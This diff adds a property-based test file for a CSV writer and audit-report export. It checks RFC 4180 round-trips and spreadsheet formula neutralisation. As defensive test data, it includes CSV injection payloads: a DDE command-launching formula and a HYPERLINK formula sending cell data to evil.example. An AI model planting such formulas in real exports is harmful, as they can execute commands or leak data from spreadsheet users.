@@ -1,0 +1,233 @@
+/**
+ * The CSV writer against an independent, strict RFC 4180 reader: whatever the
+ * cells hold, reading the output back gives the same cells (after the
+ * documented formula neutralisation), and no cell a spreadsheet sees starts
+ * with a formula trigger.
+ */
+import { describe, expect, test } from "vitest";
+import fc from "fast-check";
+import { CRLF, csvCell, csvRow, FORMULA_TRIGGERS, neutralizeFormula, quoteField, UTF8_BOM, utf8Length } from "./csv.js";
+import { csvHeader, csvRecord, csvText, jsonRecord, type ReportField } from "./report.js";
+
+/**
+ * RFC 4180, strictly: records end with CRLF (the last one too), a field is
+ * either plain (no quote, comma, CR or LF) or quoted with inner quotes doubled;
+ * anything else throws.
+ */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  let wasQuoted = false;
+  let i = 0;
+  while (i < text.length) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"') {
+        if (text[i + 1] === '"') {
+          cell += '"';
+          i += 2;
+          continue;
+        }
+        quoted = false;
+        i++;
+        if (i < text.length && text[i] !== "," && text[i] !== "\r") throw new Error(`text after a closing quote at ${i}`);
+        continue;
+      }
+      cell += ch;
+      i++;
+      continue;
+    }
+    if (ch === '"') {
+      if (cell !== "" || wasQuoted) throw new Error(`quote inside a plain field at ${i}`);
+      quoted = true;
+      wasQuoted = true;
+      i++;
+    } else if (ch === ",") {
+      row.push(cell);
+      cell = "";
+      wasQuoted = false;
+      i++;
+    } else if (ch === "\r") {
+      if (text[i + 1] !== "\n") throw new Error(`bare CR at ${i}`);
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = "";
+      wasQuoted = false;
+      i += 2;
+    } else if (ch === "\n") {
+      throw new Error(`bare LF at ${i}`);
+    } else {
+      cell += ch;
+      i++;
+    }
+  }
+  if (quoted) throw new Error("unterminated quoted field");
+  if (cell !== "" || row.length > 0 || wasQuoted) throw new Error("the last record is not CRLF-terminated");
+  return rows;
+}
+
+/** Written out here, not imported: the test must not share the writer's list. */
+const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
+
+const HOSTILE = [
+  "",
+  '"',
+  '""',
+  ",",
+  "\r",
+  "\n",
+  "\r\n",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "+1+1",
+  "-2+3",
+  "@SUM(A1:A9)",
+  "\t=1+1",
+  "\r=1+1",
+  " =1+1",
+  "'=already quoted",
+  "a,b",
+  'say "hi"',
+  "line1\nline2",
+  "line1\r\nline2",
+  "ünïcødé — 日本語 — 🦄",
+  "\u0000nul",
+  "\uFEFFbom inside",
+  "x".repeat(100_000),
+];
+
+const hostileChar = fc.constantFrom('"', ",", "\r", "\n", "\t", "=", "+", "-", "@", "'", " ", "é", "日", "🦄", "\u2028", "\uFEFF", "a");
+const cellArb = fc.oneof(
+  fc.constantFrom(...HOSTILE),
+  fc.string({ unit: hostileChar, maxLength: 30 }),
+  fc.string({ unit: "grapheme", maxLength: 30 }),
+  fc.string({ unit: "binary", maxLength: 30 }),
+);
+const rowsArb = fc.array(fc.array(cellArb, { minLength: 1, maxLength: 8 }), { minLength: 1, maxLength: 20 });
+
+describe("csv writer", () => {
+  test("reading the output back gives every cell, neutralised (property)", () => {
+    fc.assert(
+      fc.property(rowsArb, (rows) => {
+        const text = rows.map(csvRow).join("");
+        const parsed = parseCsv(text);
+        expect(parsed).toEqual(rows.map((r) => r.map(neutralizeFormula)));
+        // Every record ends with CRLF; no LF stands alone outside a quoted field (the reader checks that).
+        expect(text.endsWith(CRLF)).toBe(true);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test("no cell a spreadsheet reads starts with a formula trigger (property)", () => {
+    fc.assert(
+      fc.property(rowsArb, (rows) => {
+        for (const cell of parseCsv(rows.map(csvRow).join("")).flat()) {
+          expect(TRIGGERS.includes(cell[0] ?? "")).toBe(false);
+        }
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test("neutralisation only ever adds one leading apostrophe, and only before a trigger", () => {
+    fc.assert(
+      fc.property(cellArb, (cell) => {
+        const out = neutralizeFormula(cell);
+        if (TRIGGERS.includes(cell[0] ?? "")) expect(out).toBe(`'${cell}`);
+        else expect(out).toBe(cell);
+      }),
+    );
+  });
+
+  test("hostile cells, exactly", () => {
+    expect([...FORMULA_TRIGGERS]).toEqual(TRIGGERS);
+    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
+    expect(csvCell("+1")).toBe("'+1");
+    expect(csvCell("-1")).toBe("'-1");
+    expect(csvCell("@x")).toBe("'@x");
+    expect(csvCell("\tx")).toBe("'\tx");
+    expect(csvCell("\rx")).toBe(`"'\rx"`);
+    expect(csvCell(" =1")).toBe(" =1");
+    expect(csvCell('a"b')).toBe('"a""b"');
+    expect(csvCell("a,b")).toBe('"a,b"');
+    expect(csvCell("a\nb")).toBe('"a\nb"');
+    expect(csvCell('=1,"x"')).toBe(`"'=1,""x"""`);
+    expect(csvCell("plain")).toBe("plain");
+    expect(csvCell("")).toBe("");
+    expect(quoteField("")).toBe("");
+    expect(csvRow(["a", "b,c", ""])).toBe('a,"b,c",\r\n');
+    expect(parseCsv(csvRow(HOSTILE))).toEqual([HOSTILE.map(neutralizeFormula)]);
+  });
+
+  test("utf8Length is TextEncoder's length, lone surrogates included (property)", () => {
+    const enc = new TextEncoder();
+    const strings = fc.oneof(
+      fc.string({ unit: "binary", maxLength: 50 }),
+      fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength: 50 }),
+    );
+    fc.assert(
+      fc.property(strings, (s) => {
+        expect(utf8Length(s)).toBe(enc.encode(s).length);
+      }),
+      { numRuns: 1000 },
+    );
+    expect(utf8Length("\ud800")).toBe(3);
+    expect(utf8Length("\ud800x")).toBe(4);
+    expect(utf8Length("🦄")).toBe(4);
+  });
+});
+
+describe("report rows", () => {
+  const event = {
+    _id: "k1",
+    _creationTime: 1,
+    action: "=cmd|' /C calc'!A0",
+    category: "data" as const,
+    severity: "info" as const,
+    status: "success" as const,
+    actor: { type: "user" as const, name: "Mallory, \"the\" admin" },
+    actorId: "@mallory",
+    summary: "line1\r\nline2",
+    metadata: { nested: { a: [1, "two", null] }, big: 12n, bytes: new Uint8Array([1, 2]).buffer },
+    tags: ["-x", "y"],
+    timestamp: Date.UTC(2026, 10, 1, 12, 0, 0, 5),
+  };
+  const columns: ReportField[] = ["timestamp", "action", "actorId", "actor.name", "actor", "summary", "metadata", "tags", "resourceId"];
+
+  test("a record reads back as the documented cells: ISO time, JSON for nested values, empty when absent", () => {
+    const [header, row] = parseCsv(csvHeader(columns, false) + csvRecord(event, columns));
+    expect(header).toEqual(columns);
+    expect(row).toEqual([
+      "2026-11-01T12:00:00.005Z",
+      "'=cmd|' /C calc'!A0",
+      "'@mallory",
+      'Mallory, "the" admin',
+      // Keys in Convex's order (sorted), as every document read back has them.
+      JSON.stringify({ name: 'Mallory, "the" admin', type: "user" }),
+      "line1\r\nline2",
+      // int64 and bytes in Convex's JSON encoding, which round-trips through jsonToConvex.
+      JSON.stringify({ big: { $integer: "DAAAAAAAAAA=" }, bytes: { $bytes: "AQI=" }, nested: { a: [1, "two", null] } }),
+      '["-x","y"]',
+      "",
+    ]);
+  });
+
+  test("the byte order mark is written only when asked, before the header", () => {
+    expect(csvHeader(["a"], true)).toBe(`${UTF8_BOM}a\r\n`);
+    expect(csvHeader(["a"], false)).toBe("a\r\n");
+  });
+
+  test("a JSON row has every column, null when absent, the timestamp in ms", () => {
+    expect(jsonRecord(event, ["timestamp", "actorId", "resourceId", "actor.type"])).toEqual({
+      timestamp: event.timestamp,
+      actorId: "@mallory",
+      resourceId: null,
+      "actor.type": "user",
+    });
+    expect(csvText("timestamp", undefined)).toBe("");
+  });
+});
